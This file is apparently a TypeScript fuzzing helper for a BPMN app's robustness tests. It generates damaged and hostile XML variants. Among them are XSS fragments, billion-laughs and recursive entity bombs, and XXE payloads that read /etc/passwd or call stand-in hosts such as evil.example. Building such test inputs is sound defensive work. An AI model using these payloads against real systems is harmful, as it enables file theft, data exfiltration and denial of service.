/*
 * Hostile variants of real BPMN files, for the robustness tests (node and browser).
 * Seeded and pure: the same seed gives the same variants, so a failure can be
 * replayed by its id. Each variant is the bytes of a file a user could drop on the
 * app: cut off, bit-rotten, with repeated ids or references to nothing, nested
 * thousands deep, with megabyte attributes, entity bombs, external entities,
 * invalid UTF-8, byte order marks or the wrong namespace.
 */

import { decodeBpmnBytes } from '../../src/model/bpmn-file';

/** The kinds of damage the generator does; each variant has one. */
export const MUTATION_FAMILIES = [
  'truncation',
  'byte-flip',
  'duplicate-id',
  'dangling-reference',
  'element-removal',
  'markup-injection',
  'huge-attribute',
  'wrong-namespace',
  'byte-order-mark',
  'invalid-utf8',
  'deep-nesting',
  'entity-expansion',
  'external-entity'
] as const;

/** One kind of damage. */
export type MutationFamily = (typeof MUTATION_FAMILIES)[number];

/** A damaged file: bytes as a user's disk would hold them, and what was done to them. */
export interface Variant {
  /** Stable name, e.g. `truncation/A.1.0.bpmn#3`: family, source file, index. */
  id: string;
  family: MutationFamily;
  source: string;
  description: string;
  bytes: Uint8Array;
}

/** A file the variants are made from. */
export interface SourceFile {
  name: string;
  xml: string;
}

/** Options of `generateVariants`. */
export interface GenerateOptions {
  seed: number;
  /** Variants per family and source for the families that damage a source file (default 10). */
  perSource?: number;
  /** Only these families (default all). */
  families?: readonly MutationFamily[];
}

/** `next` of a Random as a plain function: for code that only needs numbers in [0, 1). */
export function prng(seed: number): () => number {
  const random = new Random(seed);
  return () => random.next();
}

/** A small, fast, seedable random generator (mulberry32); `next()` is uniform in [0, 1). */
export class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** A whole number in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
}

const encoder = new TextEncoder();
const BPMN_NS = 'http://www.omg.org/spec/BPMN/20100524/MODEL';

/** Decodes bytes as the app reads a dropped file (decodeBpmnBytes): by byte order mark UTF-8 or UTF-16, else UTF-8; invalid sequences replaced. */
export function decodeAsBrowser(bytes: Uint8Array): string {
  return decodeBpmnBytes(bytes).text;
}

/** Every variant for the given sources, in a stable order. */
export function generateVariants(sources: readonly SourceFile[], options: GenerateOptions): Variant[] {
  // One random stream per source and family, so choosing fewer families never changes a variant.
  let random: Random;
  const streams = new Map<string, Random>();
  const stream = (family: MutationFamily, source: string) => {
    const key = `${family}/${source}`;
    let r = streams.get(key);
    if (!r) streams.set(key, (r = new Random(options.seed ^ hashString(key))));
    return r;
  };
  const perSource = options.perSource ?? 10;
  const families = new Set(options.families ?? MUTATION_FAMILIES);
  const out: Variant[] = [];
  const add = (family: MutationFamily, source: string, index: number, description: string, content: string | Uint8Array) => {
    out.push({ id: `${family}/${source}#${index}`, family, source, description, bytes: typeof content === 'string' ? encoder.encode(content) : content });
  };

  for (const source of sources) {
    const xml = source.xml;
    const bytes = encoder.encode(xml);
    const ids = [...xml.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]!);
    const refs = [...xml.matchAll(/\s(sourceRef|targetRef|attachedToRef|processRef|bpmnElement|default|dataObjectRef|calledElement)="([^"]+)"/g)];
    const elements = [...xml.matchAll(/<([\w.-]+:)?(task|userTask|serviceTask|sendTask|startEvent|endEvent|exclusiveGateway|parallelGateway|sequenceFlow|lane|participant|BPMNShape|BPMNEdge|subProcess|boundaryEvent|messageFlow)\b[^>]*?(\/>|>[\s\S]*?<\/\1?\2>)/g)];
    for (let i = 0; i < perSource; i++) {
      if (families.has('truncation')) {
        random = stream('truncation', source.name);
        const cut = 1 + random.int(bytes.length - 1);
        add('truncation', source.name, i, `cut after byte ${cut} of ${bytes.length}`, bytes.slice(0, cut));
      }
      if (families.has('byte-flip')) {
        random = stream('byte-flip', source.name);
        const copy = bytes.slice();
        const flips = 1 + random.int(12);
        for (let f = 0; f < flips; f++) copy[random.int(copy.length)] = random.int(256);
        add('byte-flip', source.name, i, `${flips} random bytes overwritten`, copy);
      }
      if (families.has('duplicate-id') && ids.length > 1) {
        random = stream('duplicate-id', source.name);
        const keep = random.pick(ids);
        const other = random.pick(ids.filter((id) => id !== keep));
        add('duplicate-id', source.name, i, `id "${other}" renamed to the existing "${keep}"`, xml.split(`id="${other}"`).join(`id="${keep}"`));
      }
      if (families.has('dangling-reference') && refs.length > 0) {
        random = stream('dangling-reference', source.name);
        const ref = random.pick(refs);
        const broken = xml.slice(0, ref.index) + ` ${ref[1]}="Nowhere_${random.int(1e6)}"` + xml.slice(ref.index! + ref[0].length);
        add('dangling-reference', source.name, i, `${ref[1]}="${ref[2]}" points to an id that does not exist`, broken);
      }
      if (families.has('element-removal') && elements.length > 0) {
        random = stream('element-removal', source.name);
        const element = random.pick(elements);
        add('element-removal', source.name, i, `<${element[1] ?? ''}${element[2]}> removed`, xml.slice(0, element.index) + xml.slice(element.index! + element[0].length));
      }
      if (families.has('markup-injection')) {
        random = stream('markup-injection', source.name);
        const fragment = random.pick([
          '<',
          '&',
          '&unknown;',
          ']]>',
          '<!--',
          '<![CDATA[',
          '<?php echo 1; ?>',
          '<bpmn:task id="injected"',
          '</bpmn:process>',
          '<script>window.__pwned = 1</script>',
          '\u0000',
          '<x:y xmlns:x="">',
          '"\'><img src=x onerror=alert(1)>'
        ]);
        const at = random.int(xml.length);
        add('markup-injection', source.name, i, `${JSON.stringify(fragment)} inserted at character ${at}`, xml.slice(0, at) + fragment + xml.slice(at));
      }
      if (families.has('invalid-utf8')) {
        random = stream('invalid-utf8', source.name);
        const sequence = random.pick([[0xff], [0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x82]]);
        const at = random.int(bytes.length);
        const copy = new Uint8Array(bytes.length + sequence.length);
        copy.set(bytes.subarray(0, at));
        copy.set(sequence, at);
        copy.set(bytes.subarray(at), at + sequence.length);
        add('invalid-utf8', source.name, i, `invalid UTF-8 ${sequence.map((b) => b.toString(16)).join(' ')} at byte ${at}`, copy);
      }
    }
    if (families.has('wrong-namespace')) {
      const namespaces = ['http://www.omg.org/spec/BPMN/20100524/DI', 'http://example.com/not-bpmn', '', 'http://www.omg.org/spec/bpmn/20100524/model', 'urn:bpmn:1.2'];
      namespaces.forEach((ns, i) => add('wrong-namespace', source.name, i, `BPMN namespace replaced by "${ns}"`, xml.split(BPMN_NS).join(ns)));
    }
    if (families.has('byte-order-mark')) {
      add('byte-order-mark', source.name, 0, 'UTF-8 byte order mark', concat([0xef, 0xbb, 0xbf], bytes));
      add('byte-order-mark', source.name, 1, 'two UTF-8 byte order marks', concat([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], bytes));
      add('byte-order-mark', source.name, 2, 'UTF-16LE with byte order mark', concat([0xff, 0xfe], utf16(xml, true)));
      add('byte-order-mark', source.name, 3, 'UTF-16BE with byte order mark', concat([0xfe, 0xff], utf16(xml, false)));
      add('byte-order-mark', source.name, 4, 'UTF-8 byte order mark after the XML declaration', xml.replace(/\?>/, '?>\uFEFF'));
    }
    if (families.has('huge-attribute') && ids.length > 0) {
      random = stream('huge-attribute', source.name);
      const target = random.pick(ids);
      const big = (n: number) => 'Klantbelofte '.repeat(Math.ceil(n / 13)).slice(0, n);
      add('huge-attribute', source.name, 0, 'a 4 MB name', xml.replace(`id="${target}"`, `id="${target}" name="${big(4_000_000)}"`));
      add('huge-attribute', source.name, 1, 'a 1 MB foreign attribute', xml.replace(`id="${target}"`, `id="${target}" xmlns:evil="http://evil.example" evil:blob="${big(1_000_000)}"`));
      add('huge-attribute', source.name, 2, 'an 11 MB name (above the size limit)', xml.replace(`id="${target}"`, `id="${target}" name="${big(11_000_000)}"`));
      add('huge-attribute', source.name, 3, '100,000 attributes on one element', xml.replace(`id="${target}"`, `id="${target}" ${Array.from({ length: 100_000 }, (_, k) => `a${k}="${k}"`).join(' ')}`));
    }
  }
  if (families.has('deep-nesting')) for (const [i, [description, xml]] of deepNesting().entries()) add('deep-nesting', 'generated', i, description, xml);
  if (families.has('entity-expansion')) for (const [i, [description, xml]] of entityBombs().entries()) add('entity-expansion', 'generated', i, description, xml);
  if (families.has('external-entity')) for (const [i, [description, xml]] of externalEntities().entries()) add('external-entity', 'generated', i, description, xml);
  return out;
}

/** FNV-1a: a stable number for a string, to derive one seed per stream. */
function hashString(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

function concat(prefix: number[], bytes: Uint8Array): Uint8Array {
  const out = new Uint8Array(prefix.length + bytes.length);
  out.set(prefix);
  out.set(bytes, prefix.length);
  return out;
}

function utf16(text: string, littleEndian: boolean): Uint8Array {
  const out = new Uint8Array(text.length * 2);
  const view = new DataView(out.buffer);
  for (let i = 0; i < text.length; i++) view.setUint16(i * 2, text.charCodeAt(i), littleEndian);
  return out;
}

const DEPTH = 10_000;

function definitions(body: string, prolog = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<bpmn:definitions xmlns:bpmn="${BPMN_NS}" id="Definitions_hostile" targetNamespace="http://missinglink.app/hostile">${body}</bpmn:definitions>`;
}

/** 10,000 levels of sub-processes, lanes, extension elements, unknown elements, and an unclosed tower. */
function deepNesting(): Array<[string, string]> {
  const repeat = (open: (i: number) => string, close: string) =>
    Array.from({ length: DEPTH }, (_, i) => open(i)).join('') + close.repeat(DEPTH);
  return [
    ['10,000 nested sub-processes', definitions(`<bpmn:process id="p">${repeat((i) => `<bpmn:subProcess id="s${i}">`, '</bpmn:subProcess>')}</bpmn:process>`)],
    [
      '10,000 nested lanes',
      definitions(
        `<bpmn:process id="p"><bpmn:laneSet id="ls">${repeat((i) => `<bpmn:lane id="l${i}"><bpmn:childLaneSet id="cls${i}">`, '</bpmn:childLaneSet></bpmn:lane>')}</bpmn:laneSet></bpmn:process>`
      )
    ],
    [
      '10,000 nested foreign extension elements',
      definitions(
        `<bpmn:process id="p"><bpmn:extensionElements>${repeat(() => '<x:n xmlns:x="http://example.com/x">', '</x:n>')}</bpmn:extensionElements><bpmn:task id="t"/></bpmn:process>`
      )
    ],
    ['10,000 nested unknown BPMN elements', definitions(`<bpmn:process id="p">${repeat(() => '<bpmn:unknownThing>', '</bpmn:unknownThing>')}</bpmn:process>`)],
    ['10,000 opened and never closed elements', definitions(`<bpmn:process id="p">${Array.from({ length: DEPTH }, () => '<bpmn:subProcess>').join('')}`).replace(/<\/bpmn:definitions>$/, '')],
    ['100,000 nested documentation elements in a task', definitions(`<bpmn:process id="p"><bpmn:task id="t">${'<bpmn:documentation>'.repeat(100_000)}</bpmn:task></bpmn:process>`)]
  ];
}

/** Entity declarations that would blow up a parser that expands them. */
function entityBombs(): Array<[string, string]> {
  const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('\n');
  const quadratic = `<!ENTITY big "${'x'.repeat(100_000)}">`;
  return [
    ['billion laughs in a task name', definitions('<bpmn:process id="p"><bpmn:task id="t" name="&lol9;"/></bpmn:process>', `<!DOCTYPE bpmn:definitions [\n${laughs}\n]>\n`)],
    ['billion laughs in documentation', definitions('<bpmn:process id="p"><bpmn:task id="t"><bpmn:documentation>&lol9;</bpmn:documentation></bpmn:task></bpmn:process>', `<!DOCTYPE bpmn:definitions [\n${laughs}\n]>\n`)],
    [
      'quadratic blow-up: a 100 kB entity used 50,000 times',
      definitions(`<bpmn:process id="p"><bpmn:task id="t"><bpmn:documentation>${'&big;'.repeat(50_000)}</bpmn:documentation></bpmn:task></bpmn:process>`, `<!DOCTYPE bpmn:definitions [\n${quadratic}\n]>\n`)
    ],
    ['parameter entity bomb', definitions('<bpmn:process id="p"/>', '<!DOCTYPE d [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;"> %a;]>\n')],
    ['recursive entity', definitions('<bpmn:process id="p" name="&a;"/>', '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n')],
    ['100,000 numeric character references', definitions(`<bpmn:process id="p"><bpmn:task id="t" name="${'&#x41;'.repeat(100_000)}"/></bpmn:process>`)]
  ];
}

/** Entities and includes that would read files or reach the network if resolved. */
function externalEntities(): Array<[string, string]> {
  const withEntity = (declaration: string, use = '&xxe;') =>
    definitions(`<bpmn:process id="p"><bpmn:task id="t" name="${use}"><bpmn:documentation>${use}</bpmn:documentation></bpmn:task></bpmn:process>`, `<!DOCTYPE bpmn:definitions [${declaration}]>\n`);
  return [
    ['external entity reading /etc/passwd', withEntity('<!ENTITY xxe SYSTEM "file:///etc/passwd">')],
    ['external entity fetching an http URL', withEntity('<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal?data=1">')],
    ['public external entity', withEntity('<!ENTITY xxe PUBLIC "-//EVIL//X" "https://evil.example/x.dtd">')],
    ['external parameter entity (out-of-band)', withEntity('<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;', 'x')],
    ['external DTD', definitions('<bpmn:process id="p"/>', '<!DOCTYPE bpmn:definitions SYSTEM "http://127.0.0.1:9/bpmn.dtd">\n')],
    [
      'XInclude of a local file',
      definitions('<bpmn:process id="p"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></bpmn:process>')
    ],
    ['xml-stylesheet processing instruction', definitions('<bpmn:process id="p"/>', '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n')],
    [
      'schemaLocation pointing to a remote schema',
      definitions('<bpmn:process id="p"/>').replace('id="Definitions_hostile"', 'id="Definitions_hostile" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL http://127.0.0.1:9/BPMN20.xsd"')
    ]
  ];
}
